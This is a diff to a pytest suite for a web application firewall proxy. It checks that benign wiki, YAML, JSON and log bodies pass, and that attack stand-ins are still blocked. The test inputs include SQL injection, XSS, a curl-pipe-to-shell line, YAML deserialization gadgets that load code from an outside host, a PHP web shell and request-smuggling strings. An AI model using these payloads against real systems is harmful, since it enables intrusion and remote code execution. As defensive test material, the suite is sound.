@@ -308,9 +308,11 @@ def test_shape_passes(gatehouse, origin, port, shape):
 
 def test_crs_fixed_rules_keep_refusing(gatehouse, origin, port):
     g = start(gatehouse, port, origin)
+    # wpTextbox1 is free text since D37: 90044 and 90045 do not read it
+    # (90033 and 90032 do), so those two are sent in another wiki field
     for body, rule in ((form(wpTextbox1='" autofocus onfocus=alert(1) x="'), "90043"),
-                       (form(wpTextbox1="<!--<img src=x>"), "90044"),
-                       (form(wpTextbox1="x\" union all select password from users-- "), "90045"),
+                       (form(wpSection="<!--<img src=x>"), "90044"),
+                       (form(wpSection="x\" union all select password from users-- "), "90045"),
                        (form(wpTextbox1="(system)('id')"), "90047")):     # D28
         assert send(port, "POST", "/wiki/edit", FORM, body).status == 403, body
         assert blocked_by(g, rule), (rule, g.stderr_tail())
@@ -557,3 +559,154 @@ def test_rewritten_bodies_near_the_body_limit_pass(gatehouse, origin, port):
     assert send(port, "POST", "/api/v1/import", CSV, rows).status == 200
     lines = b"".join(b"worker %d done\n" % i for i in range(1200))[:16000]
     assert send(port, "POST", "/ingest/raw", TEXT, lines).status == 200
+
+
+# D36-D38 (tests/waf/default-exclusions.md, "Ninth round"): mechanisms behind
+# holdout11's false positives outside `code`.  The D1-D35 build refuses each
+# shape (942140 on "northwind"; 932105/932110/932115 on a wiki edit; 920420
+# on a YAML body), CRS 3.3.4 PL1 as shipped too.
+
+YAML = [("Content-Type", "application/yaml")]
+OPENAPI = (b"openapi: 3.0.3\ninfo:\n  title: Orders API\n  version: 1.4.0\npaths:\n"
+           b"  /orders/{id}:\n    get:\n      parameters:\n        - name: id\n"
+           b"          in: path\n          schema:\n            type: string\n"
+           b"            pattern: '^ord_[A-Za-z0-9]{12}$'\n")
+MEDIAWIKI = ("{{Infobox mountain\n| name = Mount Rainier\n}}\n'''Mount Rainier''' is a large "
+        "[[stratovolcano]].<ref>{{cite web |url=https://www.usgs.gov/ |title=USGS}}</ref>\n"
+        "It is {{convert|14411|ft|m}} high.")
+
+SHAPES9 = {
+    "D36 northwind in an e-mail address": ("POST", "/sign/envelopes", JSON, json.dumps(
+        {"recipients": [{"email": "jsw@northwind.example", "role": "signer"}]}).encode()),
+    "D37 camelCase free-text name": ("POST", "/hooks/esign", JSON, json.dumps(
+        {"data": {"emailSubject": "Please sign: MSA -- Acme / Northwind"}}).encode()),
+    "D37 MediaWiki edit": ("POST", "/w/index.php?title=Mount_Rainier&action=submit", FORM,
+                           form(wpTextbox1=MEDIAWIKI,
+                                wpSummary="/* Geography */ fix convert template; rm dup ref (see talk)")),
+    "D38 OpenAPI YAML": ("POST", "/v1/specs", YAML, OPENAPI),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES9))
+def test_round9_shape_passes(gatehouse, origin, port, shape):
+    g = start(gatehouse, port, origin)
+    method, target, headers, body = SHAPES9[shape]
+    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()
+
+
+def test_defaults_off_refuses_round9_shapes(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="defaults off")
+    for shape, (method, target, headers, body) in sorted(SHAPES9.items()):
+        assert send(port, method, target, headers, body).status == 403, shape
+    assert untouched(origin)
+
+
+def test_round9_stand_ins_keep_refusing(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    # northwind as a database reference (90055); the other names as before
+    for q in ("table=northwind..sysobjects", "table=northwind.dbo.Customers",
+              "t=%5BNorthwind%5D.%5Bdbo%5D.%5BOrders%5D", "db=information_schema"):
+        assert send(port, "GET", "/reports/run?" + q).status == 403, q
+    assert blocked_by(g, "90055"), g.stderr_tail()
+    # a camelCase free-text name gets the free-text stand-ins
+    for body, rule in (({"commitMessage": "fix' OR '1'='1' -- "}, "90032"),
+                       ({"emailSubject": "<script>alert(1)</script>"}, "90033"),
+                       ({"wpSummary": "; curl http://203.0.113.9/s | sh"}, "90034")):
+        assert send(port, "POST", "/api/x", JSON, json.dumps(body).encode()).status == 403, body
+        assert blocked_by(g, rule), (rule, g.stderr_tail())
+    # a camelCase name outside the family: every rule as before
+    assert send(port, "POST", "/api/x", JSON, b'{"userId": "1\' OR \'1\'=\'1"}').status == 403
+    # YAML bodies are read (one string), and language tags refused (90057)
+    for headers, body in (
+            (YAML, b"description: \"x' UNION SELECT username, password FROM users-- -\"\n"),
+            ([("Content-Type", "text/x-yaml")], b"title: <script>alert(document.cookie)</script>\n"),
+            ([("Content-Type", "application/openapi+yaml; charset=utf-8")], b"x: \"1' OR '1'='1\"\n")):
+        assert send(port, "POST", "/v1/specs", headers, body).status == 403, body
+    for body in (b'job: !!python/object/apply:os.system ["id"]\n',
+                 b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader '
+                 b'[[!!java.net.URL ["http://203.0.113.9/"]]]]\n',
+                 b"--- !ruby/object:Gem::Requirement\nrequirements: []\n",
+                 b"x: !<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [[id]]\n"):
+        assert send(port, "POST", "/v1/specs", YAML, body).status == 403, body
+        assert blocked_by(g, "90057"), (body, g.stderr_tail())
+    # YAML's own tags and application tags are no language object
+    assert send(port, "POST", "/v1/specs", YAML,
+                b"a: !!str 12\nb: !!binary aGk=\nRole: !GetAtt MyRole.Arn\nc: !Ref Bucket\n").status == 200
+    assert send(port, "POST", "/api/export", JSON, b'{"format": "jsw@northwind.example"}').status == 200
+
+
+def test_exclude_942140_removes_the_northwind_stand_in(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="exclude 942140")
+    assert send(port, "GET", "/reports/run?table=northwind..sysobjects").status == 200
+
+
+# D39 ("Ninth round"): a text/plain body of several JSON documents a line
+# (a Sentry envelope, a log beacon) is read as NDJSON.  The D1-D38 build
+# refuses the envelope (200002: parsed as one document).
+
+ENVELOPE = (b'{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc","sent_at":"2026-12-07T10:11:12.000Z"}\n'
+            b'{"type":"event"}\n'
+            b'{"exception":{"values":[{"type":"ReferenceError","value":"gtag is not defined"}]},'
+            b'"level":"error","platform":"javascript"}\n')
+BEACON = [("Content-Type", "text/plain;charset=UTF-8")]
+
+
+def test_multi_document_text_body_is_read_line_by_line(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    assert send(port, "POST", "/api/42/envelope/", BEACON, ENVELOPE).status == 200, g.stderr_tail()
+    # one document over several lines is still parsed whole
+    assert send(port, "POST", "/ingest/raw", TEXT, b'{\n  "a": 1,\n  "b": [2, 3]\n}\n').status == 200
+    hits = origin.stats.heads
+    for body in (ENVELOPE + b'{"user":{"id":"1\' UNION SELECT username, password FROM users-- -"}}\n',
+                 b'{"msg":"ok"}\n{"msg":"<script>alert(document.cookie)</script>"}\n',
+                 b'{\n  "q": "1\' UNION SELECT password FROM users-- -"\n}\n'):
+        assert send(port, "POST", "/api/42/envelope/", BEACON, body).status == 403, body
+    # a line that is not JSON, or a first line with more after its value, fails the parser
+    for body in (ENVELOPE + b'<?php system($_GET["c"]); ?>\n', b'{"a":1} x\n{"b":2}\n'):
+        assert send(port, "POST", "/api/42/envelope/", BEACON, body).status in (400, 403), body
+        assert "200002" in g.stderr_text().splitlines()[-1], g.stderr_tail()
+    assert origin.stats.heads == hits
+
+
+# D40 ("Ninth round"): 921110 and 921130 read a request or status line where
+# it starts a line.  The D1-D39 build refuses the prose and log shapes.
+
+PROTOCOL_PROSE = {
+    "D40 a line ending in a method word and a word": (
+        "POST", "/contact", FORM, form(message="Please delete it\nThanks, Ann")),
+    "D40 an HTTP version in prose": (
+        "POST", "/api/tickets", JSON, b'{"body": "We moved the origin from HTTP/1.1 to HTTP/2 last week."}'),
+    "D40 log lines quoting a request line": (
+        "POST", "/ingest/raw", TEXT,
+        b'Dec  7 12:00:05 lb-1 haproxy[811]: 198.51.100.23:51522 "GET /products/blue-kettle HTTP/1.1"\n'
+        b'Dec  7 12:00:06 lb-1 haproxy[811]: 198.51.100.24:51523 "POST /cart HTTP/1.1"\n'),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(PROTOCOL_PROSE))
+def test_round9_protocol_prose_passes(gatehouse, origin, port, shape):
+    g = start(gatehouse, port, origin)
+    method, target, headers, body = PROTOCOL_PROSE[shape]
+    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()
+
+
+def test_smuggling_and_splitting_at_a_line_start_are_refused(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    for target, rule in (("/redirect?next=%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20internal", "90058"),
+                         ("/fetch?u=x%0aGET%20/admin%0a", "90058"),
+                         ("/go?next=x%0d%0aHTTP/1.1%20302%20Found", "90059"),
+                         ("/preview?x=%3Chtml%3E%3Cbody%3Ehi", "90059")):
+        assert send(port, "GET", target).status == 403, target
+        assert blocked_by(g, rule), (rule, g.stderr_tail())
+    # a request after a chunk terminator in a body no parser reads
+    assert send(port, "POST", "/upload/chunk", [("Content-Type", "application/octet-stream")],
+                b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n").status == 403
+    assert blocked_by(g, "90058"), g.stderr_tail()
+    assert untouched(origin)
+
+
+def test_exclude_921110_removes_the_smuggling_stand_in(gatehouse, origin, port):
+    # refused by 90058 alone (a body no ARGS rule reads)
+    start(gatehouse, port, origin, waf="exclude 921110")
+    assert send(port, "POST", "/upload/chunk", [("Content-Type", "application/octet-stream")],
+                b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n").status == 200
